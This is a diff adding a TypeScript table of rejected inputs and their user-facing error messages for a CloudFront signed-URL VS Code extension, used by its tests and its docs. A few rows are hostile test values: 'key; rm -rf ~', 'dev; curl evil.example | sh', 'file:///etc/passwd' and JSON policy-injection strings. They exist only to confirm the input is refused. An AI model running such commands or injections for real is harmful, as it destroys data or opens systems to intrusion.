@@ -1,0 +1,537 @@
+// Bad inputs across the product, each with the exact message the user gets. The integration suite
+// (badInputs.test.ts) runs every row against the real extension and moto and checks that nothing was
+// created in CloudFront or stored (or lost) locally; scripts/render-errors-doc.mjs renders the same rows
+// into docs/errors.md, so a user can look up any message. No `vscode` here: the unit suite reads it too.
+//
+// `{name}` in args and messages stands for a value of the test's fixture (ids, domains, generated
+// PEMs). The tests put in the real values; the documentation shows EXAMPLES instead.
+
+export interface BadInput {
+  /** What is wrong, in a few words. */
+  readonly case: string;
+  readonly command: string;
+  /** The options object the command is called with (automation, other extensions, tests). */
+  readonly args: unknown;
+  readonly expect: Expectation;
+  /** What else the row needs: no editor open, a document with a URL open, or CloudFront not answering at all. */
+  readonly setup?: 'noEditor' | 'document' | 'noAnswer';
+}
+
+export type Expectation =
+  /**
+   * The command rejects with this message, naming this argument (UserError / SigningError `input`).
+   * `unexpected`: the error is not one of ours but passes through as it is (its name, e.g. TypeError):
+   * a person then sees "Unexpected error: <name>: <message>".
+   */
+  | { readonly rejects: string; readonly input?: string; readonly unexpected?: string }
+  /** Diagnose Signed URL answers with findings; this is the first error among them. */
+  | { readonly finding: { readonly code: string; readonly message: string } }
+  /** The command does what was asked; `note` says what the user sees, for the documentation. */
+  | { readonly succeeds: string };
+
+/** What the documentation shows for each `{name}`. */
+export const EXAMPLES: Readonly<Record<string, string>> = {
+  domain: 'd111111abcdef8.cloudfront.net',
+  deployingDomain: 'd222222abcdef8.cloudfront.net',
+  distributionId: 'E1EXAMPLE0DIST',
+  signerKeyId: 'K2JCJMDEHXQW5F',
+  signerKeyName: 'media-signer',
+  signerGroupName: 'media-signers',
+  otherGroupName: 'partner-signers',
+  fullGroupId: '0a1b2c3d-full-group',
+  fullGroupName: 'full-group',
+  socketTimeoutMs: '15000',
+  longName: '<129 characters>',
+  longPath: '<8,200 characters>',
+  longSignedLength: '8644',
+  quotePosition: '44',
+  profiles: 'default, dev',
+  dsaPem: '<a DSA private key PEM>',
+  rsa1024Pem: '<an RSA 1024-bit private key PEM>',
+  rsa512Pem: '<an RSA 512-bit private key PEM>',
+  p384Pem: '<an ECDSA P-384 private key PEM>',
+  ed25519Pem: '<an Ed25519 private key PEM>',
+  publicPem: '<an RSA public key PEM (SPKI)>',
+  encryptedPem: '<an encrypted private key PEM (PKCS#8)>',
+  strangerPem: '<an RSA 2048-bit private key PEM of another key>',
+  signedUrl: 'https://d111111abcdef8.cloudfront.net/paid/a.mp4?Expires=…&Signature=…&Key-Pair-Id=K2JCJMDEHXQW5F',
+  tamperedUrl: 'https://d111111abcdef8.cloudfront.net/paid/b.mp4?Expires=…&Signature=<of /paid/a.mp4>&Key-Pair-Id=K2JCJMDEHXQW5F',
+};
+
+const FUTURE = '2099-01-01T00:00:00Z';
+const SUPPORTED_KEYS = 'CloudFront accepts RSA keys of 1024 bits or more (2048 for key groups) and ECDSA P-256 (prime256v1) keys';
+const NAME_RULE = 'Use up to 128 letters, digits, hyphens and underscores';
+
+const createKeyPair = 'cloudfront.createKeyPair';
+const importPrivateKey = 'cloudfront.importPrivateKey';
+const signUrl = 'cloudfront.signUrl';
+const signCookies = 'cloudfront.signCookies';
+const signSelection = 'cloudfront.signSelection';
+const chooseProfile = 'cloudfront.chooseProfile';
+const diagnoseUrl = 'cloudfront.diagnoseUrl';
+
+const paidUrl = 'https://{domain}/paid/a.mp4';
+const sign = (extra: Record<string, unknown>) => ({ url: paidUrl, keyPairId: '{signerKeyId}', expires: FUTURE, copy: false, ...extra });
+
+export const BAD_INPUTS: readonly BadInput[] = [
+  // Import Private Key: every wrong kind of PEM.
+  {
+    case: 'a DSA private key',
+    command: importPrivateKey,
+    args: { pem: '{dsaPem}', name: 'imported-dsa' },
+    expect: { rejects: `privateKey is an unsupported DSA key; ${SUPPORTED_KEYS}.`, input: 'pem' },
+  },
+  {
+    case: 'an RSA 1024-bit key for a key group',
+    command: importPrivateKey,
+    args: { pem: '{rsa1024Pem}', name: 'imported-1024' },
+    expect: {
+      rejects:
+        'This is an RSA 1024-bit key. CloudFront key groups accept only RSA 2048-bit and ECDSA P-256 (prime256v1) public keys; a 1024-bit key can only be used with a legacy key pair ID (APKA…).',
+      input: 'pem',
+    },
+  },
+  {
+    case: 'an RSA 512-bit key',
+    command: importPrivateKey,
+    args: { pem: '{rsa512Pem}', name: 'imported-512' },
+    expect: { rejects: `privateKey is a 512-bit RSA key; ${SUPPORTED_KEYS}.`, input: 'pem' },
+  },
+  {
+    case: 'an ECDSA P-384 key',
+    command: importPrivateKey,
+    args: { pem: '{p384Pem}', name: 'imported-p384' },
+    expect: { rejects: `privateKey is an ECDSA key on curve secp384r1; ${SUPPORTED_KEYS}.`, input: 'pem' },
+  },
+  {
+    case: 'an Ed25519 key',
+    command: importPrivateKey,
+    args: { pem: '{ed25519Pem}', name: 'imported-ed25519' },
+    expect: { rejects: `privateKey is an unsupported Ed25519 key; ${SUPPORTED_KEYS}.`, input: 'pem' },
+  },
+  {
+    case: 'a public key instead of the private key',
+    command: importPrivateKey,
+    args: { pem: '{publicPem}', name: 'imported-public' },
+    expect: { rejects: 'privateKey holds a public key or certificate; signing needs the private key.', input: 'pem' },
+  },
+  {
+    case: 'text that is no PEM',
+    command: importPrivateKey,
+    args: { pem: 'this is not a key', name: 'imported-garbage' },
+    expect: { rejects: 'privateKey could not be read as a PEM private key (PKCS#1, PKCS#8 or SEC1).', input: 'pem' },
+  },
+  {
+    case: 'a PEM whose body is garbage',
+    command: importPrivateKey,
+    args: { pem: '-----BEGIN PRIVATE KEY-----\nbm90IGEga2V5IGF0IGFsbA==\n-----END PRIVATE KEY-----\n', name: 'imported-garbage-body' },
+    expect: { rejects: 'privateKey could not be read as a PEM private key (PKCS#1, PKCS#8 or SEC1).', input: 'pem' },
+  },
+  {
+    case: 'an OpenSSH private key',
+    command: importPrivateKey,
+    args: { pem: '-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmU=\n-----END OPENSSH PRIVATE KEY-----\n', name: 'imported-openssh' },
+    expect: { rejects: 'privateKey is in OpenSSH format; convert it to PEM first (ssh-keygen -p -m PEM -f <file>).', input: 'pem' },
+  },
+  {
+    case: 'an encrypted key without its passphrase',
+    command: importPrivateKey,
+    args: { pem: '{encryptedPem}', name: 'imported-encrypted' },
+    expect: { rejects: 'privateKey is encrypted; pass its passphrase.', input: 'passphrase' },
+  },
+  {
+    case: 'an encrypted key with the wrong passphrase',
+    command: importPrivateKey,
+    args: { pem: '{encryptedPem}', passphrase: 'not the passphrase', name: 'imported-encrypted' },
+    expect: { rejects: 'The passphrase does not decrypt privateKey.', input: 'passphrase' },
+  },
+  {
+    case: 'no PEM at all',
+    command: importPrivateKey,
+    args: { name: 'imported-nothing' },
+    expect: { rejects: 'pem is required: the private key as PEM text.', input: 'pem' },
+  },
+  {
+    case: 'a PEM that is not text',
+    command: importPrivateKey,
+    args: { pem: 42 },
+    expect: { rejects: 'pem must be a string.', input: 'pem' },
+  },
+  {
+    case: 'a key that is not the private half of the public key named',
+    command: importPrivateKey,
+    args: { pem: '{strangerPem}', publicKeyId: '{signerKeyId}' },
+    expect: { rejects: 'publicKeyId: public key {signerKeyId} in CloudFront is not the public half of this private key.', input: 'publicKeyId' },
+  },
+  {
+    case: 'a new public key name over 128 characters',
+    command: importPrivateKey,
+    args: { pem: '{strangerPem}', name: '{longName}' },
+    expect: { rejects: `name: ${NAME_RULE}: {longName}`, input: 'name' },
+  },
+  {
+    case: 'a new public key name with spaces and shell text',
+    command: importPrivateKey,
+    args: { pem: '{strangerPem}', name: 'key; rm -rf ~' },
+    expect: { rejects: `name: ${NAME_RULE}: key; rm -rf ~`, input: 'name' },
+  },
+
+  // Create Key Pair: names, algorithms, key groups, behaviors.
+  {
+    case: 'a name over 128 characters (CloudFront\'s limit)',
+    command: createKeyPair,
+    args: { name: '{longName}', algorithm: 'ECDSA_P256', keyGroupName: 'group-long-name' },
+    expect: { rejects: `name: ${NAME_RULE}: {longName}`, input: 'name' },
+  },
+  {
+    case: 'a name with characters CloudFront refuses',
+    command: createKeyPair,
+    args: { name: 'media signer "2026"', algorithm: 'ECDSA_P256', keyGroupName: 'group-quotes' },
+    expect: { rejects: `name: ${NAME_RULE}: media signer "2026"`, input: 'name' },
+  },
+  {
+    case: 'an empty name',
+    command: createKeyPair,
+    args: { name: '', algorithm: 'ECDSA_P256', keyGroupName: 'group-empty-name' },
+    expect: { rejects: 'name: Enter a name for the public key.', input: 'name' },
+  },
+  {
+    case: 'a name that is not text',
+    command: createKeyPair,
+    args: { name: 7, algorithm: 'ECDSA_P256', keyGroupName: 'group-number-name' },
+    expect: { rejects: 'name must be a string.', input: 'name' },
+  },
+  {
+    case: 'the name of a public key that exists',
+    command: createKeyPair,
+    args: { name: '{signerKeyName}', algorithm: 'ECDSA_P256', keyGroupName: 'group-taken-name' },
+    expect: { rejects: 'name: a public key named {signerKeyName} already exists.', input: 'name' },
+  },
+  {
+    case: 'an algorithm CloudFront does not take',
+    command: createKeyPair,
+    args: { name: 'key-rsa-4096', algorithm: 'RSA_4096', keyGroupName: 'group-rsa-4096' },
+    expect: { rejects: 'algorithm must be RSA_2048 or ECDSA_P256.', input: 'algorithm' },
+  },
+  {
+    case: 'both a new and an existing key group',
+    command: createKeyPair,
+    args: { name: 'key-two-groups', algorithm: 'ECDSA_P256', keyGroupName: 'group-two', keyGroupId: '{fullGroupId}' },
+    expect: { rejects: 'Pass either keyGroupName (a new key group) or keyGroupId (an existing one).', input: 'keyGroupName' },
+  },
+  {
+    case: 'no key group',
+    command: createKeyPair,
+    args: { name: 'key-no-group', algorithm: 'ECDSA_P256' },
+    expect: { rejects: 'Pass either keyGroupName (a new key group) or keyGroupId (an existing one).', input: 'keyGroupName' },
+  },
+  {
+    case: 'a key group that does not exist',
+    command: createKeyPair,
+    args: { name: 'key-missing-group', algorithm: 'ECDSA_P256', keyGroupId: 'no-such-key-group' },
+    expect: { rejects: 'keyGroupId: no key group no-such-key-group in this account.', input: 'keyGroupId' },
+  },
+  {
+    case: 'a full key group (5 keys)',
+    command: createKeyPair,
+    args: { name: 'key-full-group', algorithm: 'ECDSA_P256', keyGroupId: '{fullGroupId}' },
+    expect: {
+      rejects: 'Key group {fullGroupName} already holds 5 of 5 public keys, CloudFront\'s limit: remove a key from it or choose another group.',
+      input: 'keyGroupId',
+    },
+  },
+  {
+    case: 'a new key group name over 128 characters',
+    command: createKeyPair,
+    args: { name: 'key-long-group', algorithm: 'ECDSA_P256', keyGroupName: '{longName}' },
+    expect: { rejects: `keyGroupName: ${NAME_RULE}: {longName}`, input: 'keyGroupName' },
+  },
+  {
+    case: 'the name of a key group that exists',
+    command: createKeyPair,
+    args: { name: 'key-taken-group', algorithm: 'ECDSA_P256', keyGroupName: '{signerGroupName}' },
+    expect: { rejects: 'keyGroupName: a key group named {signerGroupName} already exists.', input: 'keyGroupName' },
+  },
+  {
+    case: 'behaviors without a distribution',
+    command: createKeyPair,
+    args: { name: 'key-no-distribution', algorithm: 'ECDSA_P256', keyGroupName: 'group-no-distribution', pathPatterns: ['/paid/*'] },
+    expect: { rejects: 'pathPatterns needs distributionId.', input: 'distributionId' },
+  },
+  {
+    case: 'a distribution without behaviors',
+    command: createKeyPair,
+    args: { name: 'key-no-patterns', algorithm: 'ECDSA_P256', keyGroupName: 'group-no-patterns', distributionId: '{distributionId}' },
+    expect: { rejects: 'pathPatterns must list the path patterns of the behaviors to restrict (* for the default behavior).', input: 'pathPatterns' },
+  },
+  {
+    case: 'a behavior the distribution does not have',
+    command: createKeyPair,
+    args: { name: 'key-unknown-pattern', algorithm: 'ECDSA_P256', keyGroupName: 'group-unknown-pattern', distributionId: '{distributionId}', pathPatterns: ['/nope/*'] },
+    expect: { rejects: 'pathPatterns: distribution {distributionId} has no cache behavior /nope/*; it has /paid/*, /other/*, *.', input: 'pathPatterns' },
+  },
+  {
+    case: 'CloudFront does not answer (every call times out)',
+    command: createKeyPair,
+    args: { name: 'key-no-answer', algorithm: 'ECDSA_P256', keyGroupName: 'group-no-answer' },
+    setup: 'noAnswer',
+    expect: { rejects: '@smithy/node-http-handler - the request socket timed out after {socketTimeoutMs} ms of inactivity (configured by client requestHandler).', unexpected: 'TimeoutError' },
+  },
+
+  // Sign CloudFront URL: URLs, dates, IP ranges, keys.
+  {
+    case: 'no URL',
+    command: signUrl,
+    args: { url: '', expires: FUTURE },
+    expect: { rejects: 'url is required: pass the URL the viewer will request.', input: 'url' },
+  },
+  {
+    case: 'a URL with a fragment',
+    command: signUrl,
+    args: sign({ url: 'https://{domain}/paid/a.mp4#t=10' }),
+    expect: {
+      rejects:
+        'url has a fragment (#...). Clients never send fragments, so CloudFront would check the signature against a different URL; remove it from the URL to sign and add it to the signed URL afterwards if a page needs it.',
+      input: 'url',
+    },
+  },
+  {
+    case: 'an ftp: URL',
+    command: signUrl,
+    args: sign({ url: 'ftp://{domain}/paid/a.mp4' }),
+    expect: { rejects: 'url uses the scheme ftp; CloudFront signed URLs work only with http, https, ws and wss.', input: 'url' },
+  },
+  {
+    case: 'a URL that is signed already',
+    command: signUrl,
+    args: sign({ url: '{signedUrl}' }),
+    expect: {
+      rejects:
+        'url already has the query parameter Expires, Signature, Key-Pair-Id, which CloudFront reserves for signed URLs. Sign the URL without it (remove any earlier signature first).',
+      input: 'url',
+    },
+  },
+  {
+    case: 'a URL over 8,192 bytes once signed',
+    command: signUrl,
+    args: sign({ url: 'https://{domain}/paid/{longPath}' }),
+    expect: {
+      rejects: 'The signed url would be {longSignedLength} bytes; CloudFront accepts at most 8192. Shorten the URL or its query.',
+      input: 'url',
+    },
+  },
+  {
+    case: 'a URL with a double quote (policy injection)',
+    command: signUrl,
+    args: sign({ url: 'https://{domain}/paid/a"}]}.mp4' }),
+    expect: {
+      rejects:
+        'url contains a double quote (") at position {quotePosition}. It would be written into the policy JSON, where it could change the policy\'s Resource or conditions, so it is refused rather than escaped. Percent-encode it (for example " as %22) or remove it.',
+      input: 'url',
+    },
+  },
+  {
+    case: 'text that is no URL',
+    command: signUrl,
+    args: sign({ url: 'paid/a.mp4' }),
+    expect: { rejects: 'url must be an absolute URL such as https://d111111abcdef8.cloudfront.net/video.mp4.', input: 'url' },
+  },
+  {
+    case: 'an expiry in the past',
+    command: signUrl,
+    args: sign({ expires: '2020-01-01T00:00:00Z' }),
+    expect: { rejects: 'expires (2020-01-01T00:00:00.000Z) is in the past: a URL signed with it would be refused at once. Pass a later date.', input: 'expires' },
+  },
+  {
+    case: 'an expiry in milliseconds',
+    command: signUrl,
+    args: sign({ expires: 4070908800000 }),
+    expect: { rejects: 'expires looks like milliseconds (4070908800000): pass epoch seconds or an ISO 8601 date.', input: 'expires' },
+  },
+  {
+    case: 'an expiry that is not a date',
+    command: signUrl,
+    args: sign({ expires: 'tomorrow' }),
+    expect: { rejects: 'expires is not a date: pass an ISO 8601 string (2026-12-31T23:59:00Z) or epoch seconds.', input: 'expires' },
+  },
+  {
+    case: 'a start after the expiry',
+    command: signUrl,
+    args: sign({ activeFrom: '2099-06-01T00:00:00Z' }),
+    expect: { rejects: 'activeFrom (4083955200) must be before expires (4070908800); the URL would never be valid.', input: 'activeFrom' },
+  },
+  {
+    case: 'an IPv6 range',
+    command: signUrl,
+    args: sign({ ipRange: '2001:db8::/32' }),
+    expect: { rejects: 'ipRange 2001:db8::/32 is IPv6; CloudFront policies accept only IPv4 addresses or ranges (for example 192.0.2.0/24).', input: 'ipRange' },
+  },
+  {
+    case: 'a CIDR prefix over 32',
+    command: signUrl,
+    args: sign({ ipRange: '192.0.2.0/33' }),
+    expect: { rejects: 'ipRange "192.0.2.0/33" is not an IPv4 address or CIDR range; use a form like 192.0.2.10 or 192.0.2.0/24.', input: 'ipRange' },
+  },
+  {
+    case: 'an IP range that tries to add policy conditions',
+    command: signUrl,
+    args: sign({ ipRange: '192.0.2.0/24"},"DateLessThan":{"AWS:EpochTime":4102444800' }),
+    expect: {
+      rejects:
+        'ipRange contains a double quote (") at position 12. It would be written into the policy JSON, where it could change the policy\'s Resource or conditions, so it is refused rather than escaped. Percent-encode it (for example " as %22) or remove it.',
+      input: 'ipRange',
+    },
+  },
+  {
+    case: 'a hash algorithm CloudFront does not take',
+    command: signUrl,
+    args: sign({ hashAlgorithm: 'MD5' }),
+    expect: { rejects: 'hashAlgorithm must be "SHA1" or "SHA256".', input: 'hashAlgorithm' },
+  },
+  {
+    case: 'a key with no private key on this machine',
+    command: signUrl,
+    args: sign({ keyPairId: 'KNOPRIVATEKEY1' }),
+    expect: {
+      rejects: 'No private key for KNOPRIVATEKEY1 on this machine: create or import it with "CloudFront: Create Key Pair" or "CloudFront: Import Private Key".',
+      input: 'keyPairId',
+    },
+  },
+  {
+    case: 'a key the behavior does not trust',
+    command: signUrl,
+    args: sign({ url: 'https://{domain}/other/a.mp4' }),
+    expect: { rejects: 'Key {signerKeyId} cannot sign {distributionId}, behavior /other/*: not in a key group that /other/* trusts ({otherGroupName}).', input: 'keyPairId' },
+  },
+  {
+    case: 'a URL of a distribution still deploying (InProgress)',
+    command: signUrl,
+    args: sign({ url: 'https://{deployingDomain}/paid/a.mp4' }),
+    expect: {
+      succeeds:
+        'Signs as for a deployed distribution, without a word about the status: the URL works once CloudFront has deployed the behavior\'s key group (the Distributions view shows the distribution with a sync icon until then).',
+    },
+  },
+
+  // Create Signed Cookies, Sign URLs in Selection.
+  {
+    case: 'no resource',
+    command: signCookies,
+    args: { expires: FUTURE },
+    expect: { rejects: 'resource is required: pass a URL pattern such as https://media.example.com/paid/*.', input: 'resource' },
+  },
+  {
+    case: 'no expiry',
+    command: signCookies,
+    args: { resource: 'https://{domain}/paid/*', keyPairId: '{signerKeyId}' },
+    expect: { rejects: 'expires is required: pass an ISO 8601 date or epoch seconds.', input: 'expires' },
+  },
+  {
+    case: 'an output format there is not',
+    command: signCookies,
+    args: { resource: 'https://{domain}/paid/*', expires: FUTURE, format: 'xml' },
+    expect: { rejects: 'format must be one of json, set-cookie, curl.', input: 'format' },
+  },
+  {
+    case: '*.cloudfront.net as the cookie domain',
+    command: signCookies,
+    args: { resource: 'https://{domain}/paid/*', keyPairId: '{signerKeyId}', expires: FUTURE, format: 'set-cookie', domain: '*.cloudfront.net', copy: false },
+    expect: {
+      rejects:
+        'The cookie domain *.cloudfront.net is not allowed: CloudFront does not accept *.cloudfront.net as a Domain attribute, because cloudfront.net is a public suffix and browsers refuse cookies for it. Use one of the distribution\'s alternate domain names (for example example.com), or its own domain name such as d111111abcdef8.cloudfront.net.',
+      input: 'domain',
+    },
+  },
+  {
+    case: 'a resource with a fragment',
+    command: signCookies,
+    args: { resource: 'https://{domain}/paid/*#top', keyPairId: '{signerKeyId}', expires: FUTURE, copy: false },
+    expect: { rejects: 'resource contains #; request URLs never carry a fragment, so the pattern could never match.', input: 'resource' },
+  },
+  {
+    case: 'no document open',
+    command: signSelection,
+    args: { expires: FUTURE },
+    setup: 'noEditor',
+    expect: { rejects: 'Open the document whose URLs you want to sign first.', input: 'editor' },
+  },
+  {
+    case: 'no expiry',
+    command: signSelection,
+    args: { keyPairId: '{signerKeyId}' },
+    setup: 'document',
+    expect: { rejects: 'expires is required: pass an ISO 8601 date or epoch seconds.', input: 'expires' },
+  },
+  {
+    case: 'a base URL that is not http(s)',
+    command: signSelection,
+    args: { expires: FUTURE, baseUrl: 'file:///etc/passwd' },
+    setup: 'document',
+    expect: { rejects: 'Use an http or https URL', input: 'baseUrl' },
+  },
+
+  // Choose AWS Profile.
+  {
+    case: 'a profile that does not exist',
+    command: chooseProfile,
+    args: { profile: 'no-such-profile' },
+    expect: {
+      rejects: 'No AWS profile named "no-such-profile" in ~/.aws/config or ~/.aws/credentials: pass one of {profiles}, or "" for the default credential chain.',
+      input: 'profile',
+    },
+  },
+  {
+    case: 'a profile name with shell text',
+    command: chooseProfile,
+    args: { profile: 'dev; curl evil.example | sh' },
+    expect: {
+      rejects:
+        'No AWS profile named "dev; curl evil.example | sh" in ~/.aws/config or ~/.aws/credentials: pass one of {profiles}, or "" for the default credential chain.',
+      input: 'profile',
+    },
+  },
+
+  // Diagnose Signed URL.
+  {
+    case: 'no URL',
+    command: diagnoseUrl,
+    args: { url: '  ' },
+    expect: { rejects: 'url is required: pass the signed URL to diagnose.', input: 'url' },
+  },
+  {
+    case: 'cookies that are not text',
+    command: diagnoseUrl,
+    args: { url: paidUrl, cookies: ['CloudFront-Policy=x'] },
+    expect: { rejects: 'cookies must be a string.', input: 'cookies' },
+  },
+  {
+    case: 'a signed URL without Key-Pair-Id',
+    command: diagnoseUrl,
+    args: { url: 'https://{domain}/paid/a.mp4?Expires=4070908800&Signature=abc' },
+    expect: { finding: { code: 'MissingKey', message: 'The URL has no Key-Pair-Id parameter; CloudFront answers MissingKey.' } },
+  },
+  {
+    case: 'a signature copied onto another path',
+    command: diagnoseUrl,
+    args: { url: '{tamperedUrl}' },
+    expect: {
+      finding: {
+        code: 'SignatureMismatch',
+        message:
+          'The signature does not verify with CloudFront\'s public key {signerKeyId} (a 2048-bit RSA key, SHA1) over the canned policy: the URL or expiry changed after signing, or another private key signed it. CloudFront answers AccessDenied.',
+      },
+    },
+  },
+];
+
+/** `{name}` placeholders of a value, filled from `values` (strings only; other values pass through). */
+export function fillPlaceholders<T>(value: T, values: Readonly<Record<string, string>>): T {
+  if (typeof value === 'string') {
+    return value.replace(/\{([A-Za-z0-9]+)\}/g, (whole, name: string) => (name in values ? values[name]! : whole)) as T;
+  }
+  if (Array.isArray(value)) return value.map((item) => fillPlaceholders(item, values)) as T;
+  if (value && typeof value === 'object') {
+    return Object.fromEntries(Object.entries(value).map(([key, item]) => [key, fillPlaceholders(item, values)])) as T;
+  }
+  return value;
+}
